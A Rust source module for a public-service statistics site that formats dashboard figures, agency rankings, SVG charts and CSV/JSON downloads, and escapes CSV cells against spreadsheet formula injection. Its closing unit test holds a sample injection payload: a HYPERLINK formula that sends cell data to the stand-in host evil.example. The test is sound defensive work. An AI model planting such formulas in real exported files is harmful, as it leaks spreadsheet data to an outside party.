//! Statistics views: the dashboard, month pages, data notes, each agency's series and each
//! procedure's delivery, charts as inline SVG, and the CSV/JSON downloads. Numbers come from
//! `stats` (exact); this module only formats them.

use super::format::Formatter;
use super::urls::Urls;
use crate::diag::Diagnostic;
use crate::model::Content;
use crate::stats::indicators::{count, percent};
use crate::stats::series::{self, Months, Series};
use crate::stats::{Col, Indicators, Period, Ratio};
use serde::Serialize;
use std::fmt::Write as _;

pub struct StatsViews<'a> {
    pub series: Series,
    content: &'a Content,
    urls: &'a Urls,
    fmt: &'a Formatter,
}

/// One headline figure with its changes.
#[derive(Debug, Serialize)]
pub struct Figure {
    pub label: String,
    pub value: String,
    pub vs_month: Option<String>,
    pub vs_year: Option<String>,
}

/// A row of an indicator table (an agency, a month, a quarter…).
#[derive(Debug, Serialize)]
pub struct TableRow {
    pub label: String,
    pub url: Option<String>,
    pub received: String,
    pub online: String,
    pub on_time: String,
    pub progress: String,
    pub satisfaction: String,
    pub backlog: String,
}

/// An agency's or the site's monthly series: chart and table.
#[derive(Debug, Serialize)]
pub struct SeriesView {
    pub chart: String,
    pub rows: Vec<TableRow>,
}

/// "How this procedure is delivered", last 12 months.
#[derive(Debug, Serialize)]
pub struct DeliveryView {
    pub from: String,
    pub to: String,
    pub received: String,
    pub on_time: String,
    pub online: String,
    pub avg_days: String,
    pub legal_deadline: Option<String>,
}

impl<'a> StatsViews<'a> {
    pub fn new(content: &'a Content, urls: &'a Urls, fmt: &'a Formatter) -> Self {
        let series = Series::new(&content.stats, |p| {
            content
                .procedures
                .iter()
                .find(|x| x.slug == p || x.code.value == p)
                .map(|x| x.slug.clone())
        });
        StatsViews {
            series,
            content,
            urls,
            fmt,
        }
    }

    fn lang(&self) -> &'static str {
        self.fmt.lang.code()
    }

    pub fn month_label(&self, p: Period) -> String {
        format!("{:02}/{}", p.month, p.year)
    }

    fn rate(&self, r: Option<Ratio>) -> String {
        percent(r.and_then(Ratio::basis_points), self.lang())
    }

    fn count(&self, n: Option<u64>) -> String {
        n.map_or_else(|| "—".to_owned(), |n| count(n, self.lang()))
    }

    fn row(&self, label: String, url: Option<String>, i: &Indicators) -> TableRow {
        TableRow {
            label,
            url,
            received: self.count(i.received),
            online: self.rate(i.online),
            on_time: self.rate(i.on_time),
            progress: self.rate(i.progress),
            satisfaction: self.rate(i.satisfaction),
            backlog: self.count(i.pending_overdue),
        }
    }

    fn all(&self) -> impl Iterator<Item = &Months> {
        self.series.agencies.values()
    }

    /// Headline figures of a month, with changes against the month before and a year before.
    pub fn headline(&self, p: Period) -> Vec<Figure> {
        let now = series::month(self.all(), p);
        let month = series::month(self.all(), p.previous());
        let year = series::month(self.all(), p.year_before());
        let t = |k: &str| self.fmt.t(k).to_owned();
        let counts = |f: fn(&Indicators) -> Option<u64>, key: &str| Figure {
            label: t(key),
            value: self.count(f(&now)),
            vs_month: self.count_change(f(&now), f(&month)),
            vs_year: self.count_change(f(&now), f(&year)),
        };
        let rates = |f: fn(&Indicators) -> Option<Ratio>, key: &str| Figure {
            label: t(key),
            value: self.rate(f(&now)),
            vs_month: self.point_change(f(&now), f(&month)),
            vs_year: self.point_change(f(&now), f(&year)),
        };
        vec![
            counts(|i| i.received, "stats.received"),
            rates(|i| i.online, "stats.online"),
            rates(|i| i.full_online, "stats.full_online"),
            rates(|i| i.on_time, "stats.on_time"),
            rates(|i| i.late, "stats.late"),
            rates(|i| i.progress, "stats.progress"),
            counts(|i| i.pending_overdue, "stats.backlog"),
            rates(|i| i.online_payment, "stats.online_payment"),
            rates(|i| i.digitisation, "stats.digitisation"),
            rates(|i| i.satisfaction, "stats.satisfaction"),
        ]
    }

    fn count_change(&self, now: Option<u64>, then: Option<u64>) -> Option<String> {
        let (now, then) = (now?, then?);
        let sign = if now >= then { "+" } else { "−" };
        Some(format!("{sign}{}", count(now.abs_diff(then), self.lang())))
    }

    fn point_change(&self, now: Option<Ratio>, then: Option<Ratio>) -> Option<String> {
        let (now, then) = (now?.basis_points()?, then?.basis_points()?);
        let sign = if now >= then { "+" } else { "−" };
        let diff = now.abs_diff(then);
        let sep = if self.lang() == "vi" { ',' } else { '.' };
        Some(format!(
            "{sign}{}{sep}{:02} {}",
            diff / 100,
            diff % 100,
            self.fmt.t("stats.points")
        ))
    }

    /// Agencies for a month, ranked by on-time rate (not computable last), then by name.
    pub fn ranking(&self, p: Period) -> Vec<TableRow> {
        let mut rows: Vec<(Option<u64>, String, TableRow)> = self
            .content
            .agencies
            .iter()
            .filter_map(|a| {
                let m = self.series.agencies.get(&a.id)?;
                m.contains_key(&p).then(|| {
                    let i = series::month([m], p);
                    let key = i.on_time.and_then(Ratio::basis_points);
                    (
                        key,
                        a.name.clone(),
                        self.row(a.name.clone(), Some(self.urls.agency(&a.id)), &i),
                    )
                })
            })
            .collect();
        rows.sort_by(|a, b| b.0.cmp(&a.0).then_with(|| crate::text::vi_cmp(&a.1, &b.1)));
        rows.into_iter().map(|(_, _, r)| r).collect()
    }

    /// The 12 months ending at `p`, as a range.
    fn year_to(p: Period) -> (Period, Period) {
        let mut from = p;
        for _ in 0..11 {
            from = from.previous();
        }
        (from, p)
    }

    /// Each level of government over the 12 months ending at `p` (agencies' totals).
    pub fn by_level(&self, p: Period) -> Vec<TableRow> {
        let (from, to) = Self::year_to(p);
        let t = &self.content.taxonomies.levels;
        t.terms
            .iter()
            .filter_map(|(id, label)| {
                let units: Vec<&Months> = self
                    .content
                    .agencies
                    .iter()
                    .filter(|a| a.level.as_ref().is_some_and(|l| &l.value == id))
                    .filter_map(|a| self.series.agencies.get(&a.id))
                    .filter(|m| m.range(from..=to).next().is_some())
                    .collect();
                (!units.is_empty())
                    .then(|| self.row(label.clone(), None, &series::indicators(units, from, to)))
            })
            .collect()
    }

    /// Each field over the 12 months ending at `p`, from procedures' own rows.
    pub fn by_field(&self, p: Period) -> Vec<TableRow> {
        let (from, to) = Self::year_to(p);
        self.content
            .taxonomies
            .fields
            .terms
            .iter()
            .filter_map(|(id, label)| {
                let units: Vec<&Months> = self
                    .content
                    .procedures
                    .iter()
                    .filter(|x| x.fields.iter().any(|f| &f.value == id))
                    .filter_map(|x| self.series.procedures.get(&x.slug))
                    .flatten()
                    .map(|(_, m)| m)
                    .filter(|m| m.range(from..=to).next().is_some())
                    .collect();
                (!units.is_empty()).then(|| {
                    self.row(
                        label.clone(),
                        Some(self.urls.field(id)),
                        &series::indicators(units, from, to),
                    )
                })
            })
            .collect()
    }

    /// An agency's procedures with their own rows, over the agency's last 12 months.
    pub fn agency_procedures(&self, agency: &str) -> Vec<TableRow> {
        let Some(last) = self
            .series
            .agencies
            .get(agency)
            .and_then(|m| m.keys().next_back())
        else {
            return Vec::new();
        };
        let (from, to) = Self::year_to(*last);
        let mut rows: Vec<(String, TableRow)> = self
            .series
            .procedures
            .iter()
            .filter_map(|(slug, units)| {
                let (_, m) = units.iter().find(|(a, _)| a == agency)?;
                let p = self.content.procedures.iter().find(|x| &x.slug == slug)?;
                m.range(from..=to).next()?;
                let i = series::indicators([m], from, to);
                Some((
                    p.name.clone(),
                    self.row(p.name.clone(), Some(self.urls.procedure(slug)), &i),
                ))
            })
            .collect();
        rows.sort_by(|a, b| crate::text::vi_cmp(&a.0, &b.0));
        rows.into_iter().map(|(_, r)| r).collect()
    }

    /// The site's years and the last 8 quarters.
    pub fn years(&self) -> Vec<TableRow> {
        let mut years: Vec<u16> = self.series.months.iter().map(|p| p.year).collect();
        years.dedup();
        years
            .into_iter()
            .rev()
            .map(|y| {
                let i = series::indicators(
                    self.all(),
                    Period { year: y, month: 1 },
                    Period { year: y, month: 12 },
                );
                self.row(y.to_string(), None, &i)
            })
            .collect()
    }

    pub fn quarters(&self) -> Vec<TableRow> {
        let mut quarters: Vec<(u16, u8)> = self
            .series
            .months
            .iter()
            .map(|p| (p.year, p.quarter()))
            .collect();
        quarters.dedup();
        quarters
            .into_iter()
            .rev()
            .take(8)
            .map(|(y, q)| {
                let from = Period {
                    year: y,
                    month: q * 3 - 2,
                };
                let to = Period {
                    year: y,
                    month: q * 3,
                };
                let i = series::indicators(self.all(), from, to);
                self.row(format!("{} {q}/{y}", self.fmt.t("stats.quarter")), None, &i)
            })
            .collect()
    }

    /// The rolling 12 months ending at `p`.
    pub fn rolling(&self, p: Period) -> TableRow {
        let (from, _) = Self::year_to(p);
        let i = series::indicators(self.all(), from, p);
        self.row(
            format!("{} – {}", self.month_label(from), self.month_label(p)),
            None,
            &i,
        )
    }

    /// Month pages, newest first.
    pub fn month_links(&self) -> Vec<TableRow> {
        self.series
            .months
            .iter()
            .rev()
            .map(|p| {
                let i = series::month(self.all(), *p);
                self.row(
                    self.month_label(*p),
                    Some(self.urls.stats_month(&p.to_string())),
                    &i,
                )
            })
            .collect()
    }

    /// A monthly series (the whole site, or one agency), the last 24 months with figures.
    pub fn series_view(&self, units: &[&Months], id: &str, title: &str) -> Option<SeriesView> {
        let last = units
            .iter()
            .filter_map(|m| m.keys().next_back())
            .max()
            .copied()?;
        let mut months = vec![last];
        while months.len() < 24 {
            let p = months[months.len() - 1].previous();
            if units
                .iter()
                .all(|m| m.keys().next().is_none_or(|first| p < *first))
            {
                break;
            }
            months.push(p);
        }
        months.reverse();
        let points: Vec<(Period, Indicators)> = months
            .iter()
            .map(|p| (*p, series::month(units.iter().copied(), *p)))
            .collect();
        let chart = self.chart(id, title, &points);
        let rows = points
            .iter()
            .rev()
            .map(|(p, i)| self.row(self.month_label(*p), None, i))
            .collect();
        Some(SeriesView { chart, rows })
    }

    pub fn site_series(&self) -> Option<SeriesView> {
        let units: Vec<&Months> = self.all().collect();
        self.series_view(&units, "bieu-do-toan-tinh", self.fmt.t("stats.trend"))
    }

    pub fn agency_series(&self, id: &str, name: &str) -> Option<SeriesView> {
        let m = self.series.agencies.get(id)?;
        self.series_view(&[m], &format!("bieu-do-{id}"), name)
    }

    /// The procedure's last 12 months, when it has rows.
    pub fn delivery(&self, slug: &str, legal_deadline: Option<String>) -> Option<DeliveryView> {
        let units = self.series.procedures.get(slug)?;
        let to = units
            .iter()
            .filter_map(|(_, m)| m.keys().next_back())
            .max()
            .copied()?;
        let (from, _) = Self::year_to(to);
        let i = series::indicators(units.iter().map(|(_, m)| m), from, to);
        let days = i.avg_days.map(|d| {
            let sep = if self.lang() == "vi" { ',' } else { '.' };
            format!(
                "{}{sep}{} {}",
                d / 100,
                (d % 100 + 5) / 10 % 10,
                self.fmt.t("stats.days")
            )
        });
        Some(DeliveryView {
            from: self.month_label(from),
            to: self.month_label(to),
            received: self.count(i.received),
            on_time: self.rate(i.on_time),
            online: self.rate(i.online),
            avg_days: days.unwrap_or_else(|| "—".to_owned()),
            legal_deadline,
        })
    }

    /// Notes editors wrote on rows (revisions), newest first.
    pub fn revisions(&self) -> Vec<(String, String, String)> {
        let mut out: Vec<(String, String, String)> = self
            .content
            .stats
            .rows
            .iter()
            .filter_map(|r| {
                let note = r.note.clone()?;
                let agency = self
                    .content
                    .agencies
                    .iter()
                    .find(|a| a.id == r.agency)
                    .map_or_else(|| r.agency.clone(), |a| a.name.clone());
                Some((r.period.to_string(), agency, note))
            })
            .collect();
        out.sort_by(|a, b| b.cmp(a));
        out.into_iter()
            .map(|(p, a, n)| (Period::parse(&p).map_or(p, |p| self.month_label(p)), a, n))
            .collect()
    }

    /// A line chart of on-time rate and online take-up: inline SVG, readable without colour.
    fn chart(&self, id: &str, title: &str, points: &[(Period, Indicators)]) -> String {
        const W: f64 = 640.0;
        const H: f64 = 260.0;
        const L: f64 = 60.0;
        const R: f64 = 190.0;
        const T: f64 = 14.0;
        const B: f64 = 40.0;
        let n = points.len().max(2) as f64 - 1.0;
        let x = |i: usize| L + (W - L - R) * i as f64 / n;
        let y = |bp: u64| T + (H - T - B) * (1.0 - bp as f64 / 10_000.0);
        let esc = super::escape_html;
        let t = |k: &'static str| self.fmt.t(k);
        let on_time: Vec<Option<u64>> = points
            .iter()
            .map(|(_, i)| i.on_time.and_then(Ratio::basis_points))
            .collect();
        let online: Vec<Option<u64>> = points
            .iter()
            .map(|(_, i)| i.online.and_then(Ratio::basis_points))
            .collect();
        let lang = self.lang();
        let last = points.len() - 1;
        let first_label = self.month_label(points[0].0);
        let last_label = self.month_label(points[last].0);
        let desc = t("stats.chart_desc")
            .replace("{from}", &first_label)
            .replace("{to}", &last_label)
            .replace("{on_time_from}", &percent(on_time[0], lang))
            .replace("{on_time_to}", &percent(on_time[last], lang))
            .replace("{online_from}", &percent(online[0], lang))
            .replace("{online_to}", &percent(online[last], lang));
        let mut s = String::new();
        let _ = write!(
            s,
            r#"<svg class="chart" viewBox="0 0 {W} {H}" role="img" aria-labelledby="{id}-t {id}-d" xmlns="http://www.w3.org/2000/svg"><title id="{id}-t">{}</title><desc id="{id}-d">{}</desc>"#,
            esc(title),
            esc(&desc)
        );
        for v in [0u64, 2500, 5000, 7500, 10_000] {
            let _ = write!(
                s,
                r#"<line class="grid" x1="{L}" x2="{:.1}" y1="{:.1}" y2="{:.1}"/><text class="axis" x="{:.1}" y="{:.1}" text-anchor="end">{}</text>"#,
                W - R,
                y(v),
                y(v),
                L - 6.0,
                y(v) + 5.0,
                esc(&percent(Some(v), lang).replace(",00", "").replace(".00", ""))
            );
        }
        // Few month labels: they stay readable when the chart is phone-sized.
        let step = (points.len() / 4).max(1);
        for (i, (p, _)) in points.iter().enumerate() {
            if i % step == 0 || i == last {
                let _ = write!(
                    s,
                    r#"<text class="axis" x="{:.1}" y="{:.1}" text-anchor="middle">{}</text>"#,
                    x(i),
                    H - 10.0,
                    esc(&self.month_label(*p))
                );
            }
        }
        for (values, class, label, square) in [
            (&on_time, "s1", t("stats.on_time_short"), false),
            (&online, "s2", t("stats.online_short"), true),
        ] {
            // Lines break where a month cannot be computed.
            let mut path = String::new();
            let mut pen = false;
            for (i, v) in values.iter().enumerate() {
                match v {
                    Some(v) => {
                        let _ = write!(
                            path,
                            "{}{:.1},{:.1} ",
                            if pen { "L" } else { "M" },
                            x(i),
                            y(*v)
                        );
                        pen = true;
                    }
                    None => pen = false,
                }
            }
            let _ = write!(s, r#"<path class="line {class}" d="{}"/>"#, path.trim_end());
            for (i, v) in values.iter().enumerate() {
                if let Some(v) = v {
                    if square {
                        let _ = write!(
                            s,
                            r#"<rect class="dot {class}" x="{:.1}" y="{:.1}" width="6" height="6"/>"#,
                            x(i) - 3.0,
                            y(*v) - 3.0
                        );
                    } else {
                        let _ = write!(
                            s,
                            r#"<circle class="dot {class}" cx="{:.1}" cy="{:.1}" r="3.5"/>"#,
                            x(i),
                            y(*v)
                        );
                    }
                }
            }
            if let Some((i, v)) = values
                .iter()
                .enumerate()
                .rev()
                .find_map(|(i, v)| v.map(|v| (i, v)))
            {
                let _ = write!(
                    s,
                    r#"<text class="label {class}" x="{:.1}" y="{:.1}">{} {}</text>"#,
                    x(i) + 8.0,
                    y(v) + if square { 22.0 } else { -8.0 },
                    esc(label),
                    esc(&percent(Some(v), lang))
                );
            }
        }
        s.push_str("</svg>");
        s
    }

    /// `/api/stats.csv`: every row, normalised, with derived totals and rates.
    pub fn csv(&self) -> String {
        let mut out = String::from("period,agency,procedure");
        for c in Col::ALL {
            out.push(',');
            out.push_str(c.name());
        }
        out.push_str(",avg_days,received,resolved,pending,on_time_rate,progress_rate,online_rate,satisfaction_rate,note\n");
        for r in &self.content.stats.rows {
            let i = Indicators::of(&[r]);
            let _ = write!(
                out,
                "{},{},{}",
                r.period,
                csv_cell(&r.agency),
                csv_cell(r.procedure.as_deref().unwrap_or(""))
            );
            for c in Col::ALL {
                out.push(',');
                if let Some(v) = r.get(c) {
                    out.push_str(&v.to_string());
                }
            }
            out.push(',');
            if let Some(d) = r.avg_days {
                let _ = write!(out, "{}.{:02}", d / 100, d % 100);
            }
            for v in [i.received, i.resolved, i.pending] {
                out.push(',');
                if let Some(v) = v {
                    out.push_str(&v.to_string());
                }
            }
            for rate in [i.on_time, i.progress, i.online, i.satisfaction] {
                out.push(',');
                if let Some(bp) = rate.and_then(Ratio::basis_points) {
                    let _ = write!(out, "{}.{:02}", bp / 100, bp % 100);
                }
            }
            let _ = writeln!(out, ",{}", csv_cell(r.note.as_deref().unwrap_or("")));
        }
        out
    }

    /// `/api/stats.json`: the same, with `null` for what was not reported. Serialised row by
    /// row (no JSON tree of every row in memory).
    pub fn json(&self) -> String {
        #[derive(Serialize)]
        struct Doc<'r> {
            rows: Vec<JsonRow<'r>>,
        }
        let doc = Doc {
            rows: self.content.stats.rows.iter().map(JsonRow).collect(),
        };
        serde_json::to_string(&doc).unwrap_or_default()
    }
}

/// One row of `/api/stats.json`.
struct JsonRow<'r>(&'r crate::stats::Row);

impl Serialize for JsonRow<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        let r = self.0;
        let i = Indicators::of(&[r]);
        let mut m = s.serialize_map(None)?;
        m.serialize_entry("period", &r.period.to_string())?;
        m.serialize_entry("agency", &r.agency)?;
        m.serialize_entry("procedure", &r.procedure)?;
        for c in Col::ALL {
            m.serialize_entry(c.name(), &r.get(c))?;
        }
        m.serialize_entry("avg_days", &r.avg_days.map(|d| d as f64 / 100.0))?;
        m.serialize_entry("received", &i.received)?;
        m.serialize_entry("resolved", &i.resolved)?;
        m.serialize_entry("pending", &i.pending)?;
        for (k, v) in [
            ("on_time_rate", i.on_time),
            ("progress_rate", i.progress),
            ("online_rate", i.online),
            ("satisfaction_rate", i.satisfaction),
        ] {
            m.serialize_entry(k, &v.and_then(Ratio::value))?;
        }
        m.serialize_entry("note", &r.note)?;
        m.end()
    }
}

/// One CSV cell of `/api/stats.csv`, safe to open in a spreadsheet: a cell that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula there (OWASP "CSV
/// injection"), so it gets a leading `'` (a plain negative number stays as it is); a cell with
/// a comma, quote, CR or LF is quoted.
pub(crate) fn csv_cell(s: &str) -> String {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_negative_number(s);
    let s = if risky { format!("'{s}") } else { s.to_owned() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// `-12`, `-1.5`, `-1,5`: a number, not a formula.
fn is_negative_number(s: &str) -> bool {
    let Some(digits) = s.strip_prefix('-') else {
        return false;
    };
    let (whole, frac) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    !whole.is_empty()
        && !frac.is_empty()
        && whole
            .bytes()
            .chain(frac.bytes())
            .all(|b| b.is_ascii_digit())
}

/// The statistics warnings of a run, for the public data-notes page.
pub fn data_warnings(diags: &[Diagnostic]) -> Vec<(String, String)> {
    diags
        .iter()
        .filter(|d| d.file.starts_with("content/stats/"))
        .map(|d| {
            (
                format!("{}:{}", d.file.trim_start_matches("content/"), d.line),
                d.message.clone(),
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(csv_cell("+1+cmd"), "'+1+cmd");
        assert_eq!(csv_cell("-2+3"), "'-2+3");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("\rx"), "\"'\rx\"");
        assert_eq!(csv_cell("a\rb"), "\"a\rb\"", "a bare CR is quoted");
        assert_eq!(csv_cell("-12"), "-12", "a plain negative number stays");
        assert_eq!(csv_cell("-1,5"), "\"-1,5\"");
        assert_eq!(csv_cell("Điều chỉnh"), "Điều chỉnh");
    }
}
